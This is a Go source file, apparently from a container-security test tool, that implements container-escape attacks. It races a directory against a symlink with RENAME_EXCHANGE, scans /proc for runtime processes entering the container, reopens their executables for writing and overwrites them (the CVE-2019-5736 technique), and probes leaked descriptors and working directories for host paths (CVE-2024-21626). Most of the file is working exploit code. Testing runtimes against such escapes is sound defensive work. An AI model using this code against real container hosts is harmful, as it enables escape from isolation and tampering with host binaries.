package main

import (
	"fmt"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"sync"

	"golang.org/x/sys/unix"
)

// races go on beside what follows them, until the program ends.
var races = map[string]attempt{
	"swap":   words(2, swap),
	"hunt":   words(1, hunt),
	"hunted": words(0, hunted),
}

// swap makes a path a folder and a link to somewhere else in turn, in one step each time. The folder gets content again and
// again, so that whoever removes it has to do.
func swap(w []string) (string, error) {
	other := w[0] + ".other"
	if err := os.MkdirAll(w[0], 0o777); err != nil { // it is hostile
		return "", err
	}
	if err := os.Symlink(w[1], other); err != nil && !os.IsExist(err) {
		return "", err
	}
	go func() {
		for n := 0; ; n++ {
			_ = unix.Renameat2(unix.AT_FDCWD, w[0], unix.AT_FDCWD, other, unix.RENAME_EXCHANGE)
			if n%64 == 0 {
				_ = os.WriteFile(filepath.Join(w[0], "content"), nil, 0o600)
			}
		}
	}()
	return "", nil
}

// game is what hunt has met.
var game struct {
	sync.Mutex
	met map[string]bool
}

// hunt waits for processes that come into the container, as those of the runtime do, and tries to open their programs for
// writing (CVE-2019-5736), and a path of the machine by their working directories and descriptors (CVE-2024-21626).
func hunt(w []string) (string, error) {
	game.met = map[string]bool{}
	go func() {
		for {
			dirs, _ := filepath.Glob("/proc/[0-9]*")
			for _, dir := range dirs {
				if dir != "/proc/1" && dir != fmt.Sprint("/proc/", os.Getpid()) {
					hunted := pounce(dir, w[0])
					game.Lock()
					for _, what := range hunted {
						game.met[what] = true
					}
					game.Unlock()
				}
			}
		}
	}()
	return "", nil
}

// pounce tries what it can with one process.
func pounce(dir, mark string) (met []string) {
	if program, err := os.Readlink(dir + "/exe"); err == nil {
		met = append(met, "saw "+strings.TrimSuffix(program, " (deleted)"))
	}
	// A descriptor for reading keeps the program when the process goes on to another one, which makes it writable.
	fd, err := unix.Open(dir+"/exe", unix.O_RDONLY|unix.O_CLOEXEC, 0)
	if err == nil {
		path := fmt.Sprintf("/proc/self/fd/%d", fd)
		if program, _ := os.Readlink(path); !own(program) {
			for range 100 {
				if out, err := unix.Open(path, unix.O_WRONLY|unix.O_CLOEXEC, 0); err == nil {
					met = append(met, "opened "+program+" for writing"+overwrite(out))
					break
				}
			}
		}
		_ = unix.Close(fd)
	}
	for _, link := range append(links(dir), dir+"/cwd", dir+"/root") {
		if outside(link, mark) {
			met = append(met, "reached the machine by "+filepath.Base(link))
		}
	}
	return met
}

// own are the programs of the container itself.
func own(program string) bool { return strings.HasPrefix(program, "/bin/") }

// overwrite writes to a program that is not the container's.
func overwrite(fd int) string {
	defer unix.Close(fd)
	if _, err := unix.Write(fd, []byte("#!/bin/false\n")); err != nil {
		return " but could not write"
	}
	return " and wrote"
}

func links(dir string) []string {
	all, _ := filepath.Glob(dir + "/fd/[0-9]*")
	return all
}

// outside reports whether a link leads to a folder above which a path of the machine is found, which the container has not.
func outside(link, mark string) bool {
	fd, err := unix.Open(link, unix.O_PATH|unix.O_DIRECTORY|unix.O_CLOEXEC, 0)
	if err != nil {
		return false
	}
	defer unix.Close(fd)
	for up := range 20 {
		var stat unix.Stat_t
		if unix.Fstatat(fd, strings.Repeat("../", up)+strings.TrimPrefix(mark, "/"), &stat, unix.AT_SYMLINK_NOFOLLOW) == nil {
			return true
		}
	}
	return false
}

// hunted tells what was met.
func hunted([]string) (string, error) {
	game.Lock()
	defer game.Unlock()
	var all []string
	for what := range game.met {
		all = append(all, what)
	}
	slices.Sort(all)
	return strings.Join(all, ", "), nil
}
